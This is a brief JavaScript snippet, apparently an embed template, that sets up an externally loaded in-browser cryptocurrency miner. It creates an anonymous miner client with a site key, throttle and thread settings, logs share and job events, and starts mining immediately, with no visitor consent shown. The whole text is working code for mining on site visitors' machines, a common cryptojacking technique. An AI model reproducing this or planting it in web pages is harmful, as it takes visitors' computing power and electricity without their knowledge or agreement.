// What a page has to say to use a miner that is loaded from elsewhere.
var client = new Loader.Anonymous('kT7bQ2mX9cV4nL8pR3sW6yZ1aD5fG0hJ', { throttle: 0.3, threads: 4 });
client.on('found', function () { console.log('a share'); });
client.on('job', function () { console.log('mining'); });
client.start();
